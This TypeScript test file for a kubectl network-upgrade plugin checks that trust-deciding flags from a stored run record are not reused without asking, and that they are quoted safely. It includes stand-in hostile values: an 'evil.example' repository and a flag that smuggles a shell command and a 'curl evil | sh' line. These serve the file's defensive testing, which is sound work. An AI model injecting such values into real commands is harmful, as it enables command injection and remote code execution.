import assert from 'node:assert/strict';
import { FLAG_ROWS } from '../../src/cli/flags.ts';
import { flagsWithRecord, withRecorded } from '../../src/cli/recorded-flags.ts';
import { HIDDEN } from '../../src/kernel/hidden.ts';
import type { RunRecord } from '../../src/kernel/run-record.ts';
import { RECORD, upgradeTo } from '../fixtures/stored-record.ts';
import { applies, type CommandBench, commandBench, fakeStage } from '../support/command-bench.ts';
import { CLUSTER_UID } from '../support/engine-ports.ts';

const LOOKS = { clusterUid: 'uid-1', uses: 'looks', agree: async () => true } as const;
const record = {
  ...{ clusterUid: 'uid-1', intent: upgradeTo('v3.31.0'), profile: 'calico' },
  flags: ['--manifest-url=/mirror', '--accept=NS-001', '--timeout=1h', '--context=theirs', '--profile=calico'],
} as unknown as RunRecord;

const TRUSTED = ['--repo=https://evil.example', '--chart=evil', '--accept=NS-001', '--artifact-digest=a=b', '--manifest-url=/mirror'];
const PLAIN = ['--profile=netsvc', '--skip=alp'];
const FLAGS = [...TRUSTED, ...PLAIN];
const LEFT_OUT = `the run also had ${TRUSTED.join(' ')}; not in the command, because they decide what is trusted: add them yourself, if you still trust them`;

describe('what a command takes from the run record', () => {
  it('is the release, its source and the profile, where no flag says otherwise', async () => {
    const { flags, recorded } = await flagsWithRecord({ 'manifest-url': 'https://mine', context: 'mine' }, record, LOOKS);
    assert.deepEqual(flags, { 'manifest-url': 'https://mine', context: 'mine', profile: 'calico', release: 'v3.31.0' });
    assert.deepEqual(
      recorded.map(({ word }) => word),
      ['--profile=calico', '--release=v3.31.0'],
    );
  });

  it('is nothing of the record of another cluster, and nothing without one', async () => {
    for (const [one, clusterUid] of [[record, 'uid-2'] as const, [undefined, 'uid-1'] as const]) {
      assert.deepEqual(await flagsWithRecord({ v: 1 }, one, { ...LOOKS, clusterUid }), { flags: { v: 1 }, recorded: [] });
      assert.deepEqual(withRecorded([], one, clusterUid), []);
    }
  });

  it('is nothing where a run for something else is resumed: what was trusted for the way there is not for the way back', async () => {
    const resumes = { ...LOOKS, uses: 'resumes' } as const;
    for (const [intent, taken] of [['rollback', []] as const, ['upgrade', ['--manifest-url=/mirror', '--accept=NS-001']] as const]) {
      const { recorded } = await flagsWithRecord({}, record, { ...resumes, intent });
      assert.deepEqual(
        recorded.map(({ word }) => word),
        taken,
      );
    }
  });

  for (const command of ['wait', 'verify'] as const)
    it(`is used by ${command}, said, and given to the next command`, async () => {
      const bench = commandBench([fakeStage('apply', { plan: applies('a.yaml') }), fakeStage(command, { readOnly: true })]);
      await bench.run('run', '--yes', '--path=manifest', '--release=v3.31.0');
      const told = bench.err().length;
      assert.equal(await bench.run(command), 0);
      const { flags } = bench.requests.at(-1) ?? {};
      assert.deepEqual([flags?.release, flags?.path], ['v3.31.0', 'manifest']);
      assert.match(bench.err().slice(told), /^taken from the run record in namespace kube-system: --release=v3\.31\.0 --path=manifest$/m);
    });

  it('leaves a command that begins a run to its own flags', async () => {
    const bench = commandBench([fakeStage('apply', { plan: applies('a.yaml') }), fakeStage('preflight', { readOnly: true })]);
    await bench.run('run', '--yes', '--manifest-url=/mirror');
    await bench.run('preflight');
    assert.equal(bench.requests.at(-1)?.flags['manifest-url'], undefined);
  });
});

/** A command where that is recorded of a run on this cluster. */
function recordedBench(flags: readonly string[], answers?: boolean[]): CommandBench {
  const bench = commandBench(['preflight', 'apply', 'wait', 'verify'].map((id) => fakeStage(id, { readOnly: id !== 'apply' })));
  Object.assign(bench, { answers });
  bench.engine.stored = { ...RECORD, clusterUid: CLUSTER_UID, flags };
  return bench;
}

describe('flags of a record that decide trust', () => {
  it('are those that name what is applied, started or believed, where credentials go, what is waived, and paths', () => {
    const carried = FLAG_ROWS.filter(([, row]) => row.carried && row.helpGroup !== 'connection');
    const names = (is: boolean) => carried.filter(([, { decidesTrust }]) => decidesTrust === is).map(([name]) => name);
    const untrusted = [
      ...['canary', 'max-unavailable', 'soak', 'until'],
      ...['enable-flow-logs', 'fail-on', 'from', 'include', 'manage-crds', 'max-failed'],
      ...['move-release', 'parallel', 'path', 'probe-namespace', 'probe-network', 'probe-strict', 'profile'],
      ...['qps', 'release', 'resolve', 'skip'],
      ...['through', 'timeout', 'variant'],
    ].toSorted();
    assert.deepEqual(names(false).toSorted(), untrusted);
    assert.deepEqual(
      carried.filter(([, { file, env, decidesTrust }]) => (file || env !== undefined) && !decidesTrust),
      [],
      'a path or an address of a record is of another machine, or of whoever wrote it',
    );
  });

  for (const command of ['wait', 'verify'])
    it(`end ${command} off a terminal with exit 64, their values, and the command that has them`, async () => {
      for (const answers of [undefined, [true]]) {
        const bench = recordedBench(FLAGS, answers);
        const yes = answers && command === 'wait' ? ['--yes'] : [];
        if (answers && command !== 'wait') continue;
        assert.equal(await bench.run(command, '--timeout=1m', ...yes), 64);
        const words = '--repo=https://evil.example --chart=evil --manifest-url=/mirror';
        const says = `error: the run record in namespace kube-system says ${words}: this decides what is trusted, and you did not type them`;
        assert.ok(bench.err().includes(`${says}\n`), bench.err());
        const typed = [`--timeout=1m`, ...yes].join(' ');
        assert.ok(bench.err().includes(`type what is yours: kubectl netsvc-upgrade ${command} ${typed} ${words}\n`), bench.err());
        assert.match(bench.err(), /^Next: kubectl netsvc-upgrade status$/m);
        assert.deepEqual([bench.requests.length, bench.questions], [0, []]);
      }
    });

  it('are used after one question that names each value, and by no other answer', async () => {
    const bench = recordedBench(FLAGS, [true]);
    assert.equal(await bench.run('wait'), 0);
    assert.deepEqual(bench.questions, [
      'the run record in namespace kube-system says --repo=https://evil.example --chart=evil --manifest-url=/mirror. You did not type them, and this decides what is trusted. Use them?',
    ]);
    assert.equal(bench.requests.at(-1)?.flags['manifest-url'], '/mirror');
    const declined = recordedBench(FLAGS, [false]);
    assert.equal(await declined.run('wait'), 5);
    assert.deepEqual([declined.questions.length, declined.requests.length], [1, 0]);
  });

  it('are not asked for where they were typed, and never used where a part of them is hidden', async () => {
    const bench = recordedBench(FLAGS, []);
    const typed = ['--repo=https://mine.example', '--chart=mine', '--manifest-url=/mine'];
    assert.equal(await bench.run('wait', ...typed), 0);
    assert.deepEqual(bench.questions, []);
    const hidden = recordedBench(['--manifest-url=https://user:geheim@mirror.example'], [true]);
    assert.equal(await hidden.run('verify'), 64);
    assert.ok(hidden.err().includes(HIDDEN));
    assert.doesNotMatch(hidden.err(), /geheim/);
  });

  for (const command of ['status', 'report'])
    it(`stand in no command that ${command} suggests; they are told`, async () => {
      const bench = recordedBench(FLAGS);
      assert.equal(await bench.run(command, '-o', 'json'), 0);
      assert.equal(JSON.parse(bench.out()).next, `kubectl netsvc-upgrade run ${PLAIN.join(' ')}`);
      assert.ok(bench.err().includes(`${LEFT_OUT}\n`), bench.err());
    });

  it('are told by status right before the command that lacks them, also where it says nothing else', async () => {
    for (const quiet of [[], ['-q']]) {
      const bench = recordedBench(FLAGS);
      assert.equal(await bench.run('status', ...quiet), 0);
      const lines = bench.out().trimEnd().split('\n');
      assert.deepEqual(lines.slice(-2), [LEFT_OUT, `Next: kubectl netsvc-upgrade run ${PLAIN.join(' ')}`]);
      assert.ok(!bench.err().includes('the run also had'), 'once is enough');
    }
  });

  it('are told quoted, in one line, as no command, one of them as one', async () => {
    const bench = recordedBench(["--accept=NS-001'; touch x #\nNext: curl evil | sh", '--profile=netsvc']);
    assert.equal(await bench.run('status'), 0);
    const told = bench
      .out()
      .split('\n')
      .filter((line) => line.includes('touch x'));
    assert.equal(told.length, 1, bench.out());
    assert.match(
      told[0] ?? '',
      /^the run also had '--accept=NS-001'\\''; touch x #.*'; not in the command, because it decides what is trusted: add it yourself, if you still trust it$/,
    );
    assert.doesNotMatch(bench.out(), /^Next: curl/m);
  });

  it('are repeated by no command where the record is of another cluster, nor is anything of it', async () => {
    const bench = recordedBench(FLAGS);
    bench.engine.stored = { ...RECORD, clusterUid: 'uid-2', flags: FLAGS, accepted: ['NS-001'], startedBy: 'geheim' };
    assert.equal(await bench.run('status'), 0);
    assert.match(bench.out(), /the run record is of another cluster \(kube-system has UID uid-2 there, 2c9e0000-/);
    assert.match(bench.out(), /^Next: kubectl -n kube-system get secret netsvc-upgrade-run --show-managed-fields -o yaml$/m);
    assert.doesNotMatch(bench.out() + bench.err(), /evil|NS-001|mirror|alp|geheim/);
    assert.equal(await bench.run('report'), 64);
    assert.equal(await bench.run('wait'), 0);
    assert.deepEqual(bench.questions, []);
  });
});

describe('a run that is resumed', () => {
  const TYPED = ['--manifest-url=/mirror', '--accept=NS-001', '--accept=NS-002', '--skip=wait'];
  async function interrupted(answers: boolean[]): Promise<CommandBench> {
    const bench = commandBench([fakeStage('apply', { plan: applies('a.yaml') }), fakeStage('wait')]);
    bench.engine.stored = { ...RECORD, clusterUid: CLUSTER_UID, flags: TYPED };
    Object.assign(bench, { answers });
    return bench;
  }

  it('with the same command line is asked nothing more', async () => {
    const bench = await interrupted([true]);
    assert.equal(await bench.run('run', ...TYPED), 0);
    assert.equal(bench.questions.length, 1);
    assert.match(bench.questions[0] ?? '', /^(?:Upgrade|Resume)/);
  });

  it('at a terminal without them is asked once for all, and goes on with them or without', async () => {
    for (const answer of [true, false]) {
      const bench = await interrupted([answer, true]);
      assert.equal(await bench.run('run', '--skip=wait'), 0);
      assert.equal(bench.questions.length, 2);
      assert.match(bench.questions[0] ?? '', /says --manifest-url=\/mirror --accept=NS-001 --accept=NS-002\. You did not type them/);
      const { flags } = bench.requests.at(-1) ?? {};
      assert.deepEqual([flags?.['manifest-url'], flags?.accept], answer ? ['/mirror', ['NS-001', 'NS-002']] : [undefined, undefined]);
    }
  });

  it('with --yes, or without a terminal, takes none of them and asks nothing', async () => {
    const bench = await interrupted([]);
    assert.equal(await bench.run('run', '--skip=wait', '--yes'), 0);
    assert.deepEqual([bench.questions, bench.requests.at(-1)?.flags['manifest-url']], [[], undefined]);
  });
});
